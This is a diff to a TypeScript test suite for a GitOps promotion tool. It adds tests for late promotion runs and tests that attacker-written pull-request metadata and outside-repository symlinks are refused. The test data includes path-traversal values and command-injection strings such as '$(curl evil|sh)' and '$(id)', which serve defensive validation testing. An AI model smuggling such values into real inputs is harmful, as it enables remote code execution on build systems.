@@ -1,4 +1,7 @@
 import { execFileSync } from 'node:child_process';
+import { mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { type AzureDevOpsApi, startAzureApi } from './doubles/azure-api';
 import { type GitHubApiDouble, startGitHubDouble } from './doubles/github-api';
@@ -831,5 +834,178 @@ describe('branch layout (Fabrikate): environment branches', () => {
       'promote-tag: input strategy: "branch" is not valid; qa deploys from tags (qa-deploy-*), not from a branch: use strategy git-tag',
     );
     expect(host.requestCount()).toBe(0);
+  });
+});
+
+describe.each([
+  ['GitHub', githubHost],
+  ['Azure DevOps', azureHost],
+] as const)('per-app rules when runs arrive late, on %s', (_title, make) => {
+  it('a late promote meets a newer new: the newer tag keeps the pull request, the older goes no further', async () => {
+    const fx = xksRepo();
+    const host = await start<Host>(make, fx);
+    ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c1' }));
+    const m1 = await host.merge(1);
+    // c2 is proposed before the push that merged c1 has run its promote.
+    ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c2' }));
+    const before = { pull: host.pull(2), head: git(fx.remote, 'rev-parse', 'promote/apps-podinfo') };
+    expect(metadataOf(before.pull.body)).toMatchObject({ env: 'dev', tag: 'c2', type: 'new' });
+
+    const late = await host.push('promote-tag', m1, PROMOTE);
+    expect(ok(late)).toMatchObject({
+      environment: '',
+      created: 'false',
+      'pull-request-number': '',
+      branch: '',
+    });
+    expect(late.stdout).toContain(
+      'apps/podinfo c2 is being promoted to dev in pull request #2, newer than c1: c1 goes no further',
+    );
+    expect(host.pull(2)).toEqual(before.pull);
+    expect(git(fx.remote, 'rev-parse', 'promote/apps-podinfo')).toBe(before.head);
+    expect(host.pulls()).toHaveLength(2);
+  });
+
+  it('a late promote of a tag already further along leaves that pull request alone', async () => {
+    const fx = xksRepo();
+    const host = await start<Host>(make, fx);
+    ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c1' }));
+    const m1 = await host.merge(1);
+    checkoutMain(fx);
+    ok(await host.push('promote-tag', m1, PROMOTE));
+    const m2 = await host.merge(2);
+    checkoutMain(fx);
+    ok(await host.push('promote-tag', m2, PROMOTE));
+    const before = { pull: host.pull(3), head: git(fx.remote, 'rev-parse', 'promote/apps-podinfo') };
+    expect(metadataOf(before.pull.body)).toMatchObject({ env: 'prod', tag: 'c1' });
+
+    // The push of m1 runs its promote again (a re-run): c1 is on its way to prod already.
+    const again = await host.push('promote-tag', m1, PROMOTE);
+    expect(ok(again)).toMatchObject({
+      environment: 'prod',
+      tag: 'c1',
+      created: 'false',
+      'pull-request-number': '3',
+      branch: 'promote/apps-podinfo',
+    });
+    expect(again.stdout).toContain(
+      'apps/podinfo c1 is already being promoted, to prod in pull request #3: nothing to do',
+    );
+    expect(host.pull(3)).toEqual(before.pull);
+    expect(git(fx.remote, 'rev-parse', 'promote/apps-podinfo')).toBe(before.head);
+    expect(host.pulls()).toHaveLength(3);
+  });
+});
+
+describe.each([
+  ['GitHub', githubHost],
+  ['Azure DevOps', azureHost],
+] as const)(
+  'a merged pull request whose metadata block was written by an attacker, on %s',
+  (_title, make) => {
+    it.each([
+      [
+        'promote/apps-podinfo',
+        { group: '../../etc' },
+        'its gitops-promote:promotion block has group "../../etc"',
+      ],
+      [
+        'promote/apps-podinfo',
+        { app: 'podinfo/../../x' },
+        'its gitops-promote:promotion block has app "podinfo/../../x"',
+      ],
+      [
+        'promote/apps-podinfo',
+        { tag: '$(curl evil|sh)' },
+        'its gitops-promote:promotion block has tag "$(curl evil|sh)", which is no image tag',
+      ],
+      [
+        'promote/apps-podinfo',
+        { env: '../prod' },
+        'its gitops-promote:promotion block has env "../prod", which is not an environment',
+      ],
+      [
+        'promote/apps-podinfo',
+        { sha: '$(id)' },
+        'its gitops-promote:promotion block has sha "$(id)", which is no full commit sha',
+      ],
+      [
+        'promote/apps-podinfo',
+        { type: 'rm' },
+        'its gitops-promote:promotion block has type "rm" (new or promote)',
+      ],
+      [
+        'feature/innocent',
+        {},
+        'its gitops-promote:promotion block promotes apps/podinfo to dev, which comes from promote/apps-podinfo or promote/dev/apps-podinfo, not feature/innocent',
+      ],
+    ])('from %s with %o: refused before any path or branch is made of it', async (head, edit, message) => {
+      const fx = xksRepo();
+      const host = (await start<Host>(make, fx)) as Host & { api: GitHubApiDouble | AzureDevOpsApi };
+      const m0 = checkoutMain(fx);
+      fx.git('checkout', '-q', '-b', head);
+      fx.commit({ 'apps/dev/podinfo.yaml': deployment('dev', 'c9') }, 'bump');
+      fx.git('push', '-q', 'origin', head);
+      const meta = {
+        version: 1,
+        group: 'apps',
+        app: 'podinfo',
+        tag: 'c9',
+        env: 'dev',
+        sha: m0,
+        type: 'new',
+        ...edit,
+      };
+      const body = `Bumps podinfo.\n\n<!-- gitops-promote:promotion ${JSON.stringify(meta)} -->\n`;
+      await (await providerOf(host)).createPullRequest({ head, base: 'main', title: 'Bump podinfo', body });
+      const merged = await host.merge(1);
+      checkoutMain(fx);
+      const refs = git(fx.remote, 'for-each-ref', '--format=%(refname) %(objectname)');
+
+      const r = await host.push('promote-tag', merged, PROMOTE);
+      expect(r.code).toBe(1);
+      expect(r.failure).toContain(`promote-tag: pull request #1 (${head} → main): ${message}`);
+      expect(r.outputs.branch).toBeUndefined();
+      expect(host.pulls()).toHaveLength(1);
+      expect(git(fx.remote, 'for-each-ref', '--format=%(refname) %(objectname)')).toBe(refs);
+    });
+  },
+);
+
+/** The platform's own client, to do what a person does on the hosting service (open a pull request). */
+async function providerOf(host: Host & { api: GitHubApiDouble | AzureDevOpsApi }) {
+  if (host.name === 'github') {
+    const api = host.api as GitHubApiDouble;
+    const { GitHubProvider } = await import('@gitops-promote/platform/providers/github');
+    return new GitHubProvider({ token: api.token, repository: api.repository, apiUrl: api.apiUrl });
+  }
+  const api = host.api as AzureDevOpsApi;
+  const { AzureDevOpsProvider } = await import('@gitops-promote/platform/providers/azure');
+  return new AzureDevOpsProvider({
+    token: api.token,
+    collectionUri: api.collectionUri,
+    project: api.project,
+    repositoryId: api.repositoryId,
+  });
+}
+
+describe('the environment manifests are read inside the repository only', () => {
+  it('apps/dev as a symbolic link out of the checkout is refused, and nothing is written', async () => {
+    const outside = mkdtempSync(join(tmpdir(), 'gp-outside-'));
+    writeFileSync(join(outside, 'podinfo.yaml'), deployment('dev', '1.0.0'));
+    const fx = xksRepo();
+    fx.git('rm', '-rq', 'apps/dev');
+    symlinkSync(outside, join(fx.work, 'apps', 'dev'));
+    fx.commit({}, 'dev from elsewhere');
+    fx.git('push', '-q', 'origin', 'main');
+    const host = await start(githubHost, fx);
+    const r = await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c2' });
+    expect(r.code).toBe(1);
+    expect(r.failure).toBe(
+      `promote-tag: apps/dev leads outside the repository (a symbolic link to ${realpathSync(outside)}); the manifests of an environment must be in the repository (nothing was written)`,
+    );
+    expect(host.pulls()).toEqual([]);
+    expect(host.api.requests.filter((q) => q.method !== 'GET')).toEqual([]);
+    expect(git(fx.remote, 'branch', '--list', 'promote/*')).toBe('');
   });
 });
